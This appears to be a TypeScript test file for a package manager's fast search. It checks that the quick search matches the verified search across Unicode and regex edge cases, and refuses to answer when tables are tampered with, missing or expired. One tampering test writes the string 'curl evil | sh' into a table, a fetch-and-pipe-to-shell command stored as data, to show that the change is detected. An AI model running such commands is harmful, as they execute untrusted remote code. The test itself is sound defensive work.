/**
 * The sealed search tables (src/core/pkg/index-cache.ts) and the search made from them without the
 * package manager (src/core/pkg/search-fast.ts, src/app/search.ts, used by `bpkg search`): the same
 * answer as PackageManager.search whenever they give one, and no answer (so the package manager
 * verifies, warns or refuses) whenever a table is missing, changed, stale or not enough.
 */
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { quickSearch } from '../../src/app/search.js';
import { PackageManager } from '../../src/core/pkg/index.js';
import { bpkg, lists, makeKey, signedRepo, type TestKey, tempDir, trustingRoot } from '../helpers/pkg.js';

let key: TestKey;
let other: TestKey;
let repoA: string;
let repoB: string;
beforeAll(async () => {
  ({ key, repo: repoA } = await signedRepo([
    { name: 'vision-tools', version: '1.2.0', summary: 'Tools for Vision models' },
    { name: 'text', version: '1.0.0', summary: 'text workloads, no VISION here? yes vision' },
    { name: 'shared', version: '1.0.0', summary: 'in both repositories' },
    { name: 'zeta', version: '0.1.0', summary: 'Última versión: ünïcödé summary' },
    // Lower-casing that depends on context (final sigma) or changes the length (dotted İ).
    { name: 'greek', version: '0.2.0', summary: 'ΟΔΥΣΣΕΥΣ in İstanbul, ΣΑΣ' },
  ]));
  other = await makeKey(path.join(tempDir(), 'other'));
  ({ repo: repoB } = await signedRepo(
    [
      { name: 'shared', version: '1.10.0-rc.1', summary: 'in both repositories' },
      { name: 'alpha', version: '3.0.0', summary: 'first in order' },
    ],
    key,
  ));
});
const tableFile = (root: string, name = 'main') => path.join(lists(root), name, 'search.tsv');

async function twoRepoRoot(): Promise<string> {
  const root = await trustingRoot(key, repoA);
  const pm = new PackageManager({ root });
  await pm.repos.add('second', repoB, { keys: [key.fingerprint] });
  const outcomes = await pm.update();
  expect(outcomes.every((o) => o.ok)).toBe(true);
  return root;
}

describe('search tables', () => {
  it('give the same hits as the package manager, word by word, installed versions included', async () => {
    const root = await twoRepoRoot();
    await new PackageManager({ root, yes: true }).install(['text']);
    const pm = new PackageManager({ root });
    for (const word of [
      'ς',
      'σ',
      'οδυσσευς',
      'σας',
      'i̇stanbul',
      'istanbul',
      'İ',
      'ΣΑΣ',
      's\nt',
      '1.2',
      '',
      'vision',
      'VISION',
      'shared',
      'ünïcödé',
      'Última',
      'e',
      'nothing-matches',
      '\t',
    ]) {
      const quick = await quickSearch(root, word);
      expect(quick, word).toBeDefined();
      expect(quick, word).toEqual(await pm.search(word));
    }
    // The newer version wins across repositories, by semver (1.10.0-rc.1 > 1.0.0).
    expect((await quickSearch(root, 'shared'))?.map((h) => [h.version, h.repo])).toEqual([
      ['1.10.0-rc.1', 'second'],
    ]);
    expect((await quickSearch(root, 'text'))?.[0]?.installed).toBe('1.0.0');
    for (const word of ['ς', 'σ', 'i̇stanbul'])
      expect((await quickSearch(root, word))?.map((h) => h.name)).toEqual(['greek']);
  });

  it('in an all-ASCII table (searched with a case-insensitive expression) give the same hits too', async () => {
    // repoB's table is plain ASCII; repoA's is not (it takes the lower-cased copy): both alone.
    const root = await trustingRoot(key, repoB);
    const pm = new PackageManager({ root });
    for (const word of [
      'FIRST',
      'in order',
      'rc.1',
      '1.10',
      '.',
      '*',
      '(',
      '[a-z]',
      '\\',
      '$',
      'ſ',
      'ı',
      'K',
      '',
      '\n',
      'st\nin',
      // A match in the name, in the version, across a tab, ending on a newline, or in the summary
      // (found there without cutting the line out: search-fast.ts).
      'a',
      'ALPHA',
      'alpha\t3',
      '3.0.0\tfirst',
      'order\n',
      'repositories',
      'both REPOSITORIES',
    ])
      expect(await quickSearch(root, word), word).toEqual(await pm.search(word));
  });

  it('a changed table gives no answer: the package manager answers from the verified index', async () => {
    const root = await trustingRoot(key, repoA);
    const text = readFileSync(tableFile(root), 'utf8');
    writeFileSync(tableFile(root), text.replace('Tools for Vision models', 'EVIL curl evil | sh'));
    expect(await quickSearch(root, 'evil')).toBeUndefined();
    const r = await bpkg(root, ['--json', 'search', 'evil']);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual([]);
    const v = await bpkg(root, ['--json', 'search', 'vision']);
    expect(JSON.parse(v.stdout).map((h: { summary: string }) => h.summary)).toContain(
      'Tools for Vision models',
    );
  });

  it('a table copied from another repository, or missing, gives no answer', async () => {
    const root = await twoRepoRoot();
    writeFileSync(tableFile(root, 'main'), readFileSync(tableFile(root, 'second')));
    expect(await quickSearch(root, '')).toBeUndefined();
    rmSync(tableFile(root, 'main'));
    expect(await quickSearch(root, '')).toBeUndefined();
    // An update that finds the same index writes the missing table again.
    await new PackageManager({ root }).update();
    expect(await quickSearch(root, 'vision')).toEqual(await new PackageManager({ root }).search('vision'));
  });

  it('gives no answer for an expired index or a signer no longer bound to the repository', async () => {
    const root = await trustingRoot(key, repoA);
    expect(await quickSearch(root, '', new Date(Date.now() + 400 * 86400e3))).toBeUndefined();
    const pm = new PackageManager({ root });
    await pm.keyring.add(other.publicKey, other.fingerprint);
    await pm.repos.setKeys('main', [other.fingerprint]);
    expect(await quickSearch(root, '')).toBeUndefined();
    // The package manager says why (and `bpkg search` prints it).
    const r = await bpkg(root, ['search', 'vision']);
    expect(r.stderr).toMatch(/not a key bound to it/);
  });

  it("package names sort by code unit exactly as localeCompare sorts them (search-fast.ts's order)", () => {
    const chars = 'abcdefghijklmnopqrstuvwxyz0123456789-';
    let seed = 7;
    const rnd = (n: number) => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    const names = Array.from({ length: 5000 }, () => {
      const len = 1 + rnd(12);
      let s = chars[rnd(36)]!;
      for (let i = 1; i < len; i++) s += chars[rnd(chars.length)];
      return s;
    });
    names.push('a', 'a-', 'a-b', 'ab', 'a0', 'a9b', 'a10', 'z-9', 'z--', '0', '9-a');
    const byLocale = [...names].sort((a, b) => a.localeCompare(b));
    const byUnit = [...names].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
    expect(byUnit).toEqual(byLocale);
  });
});
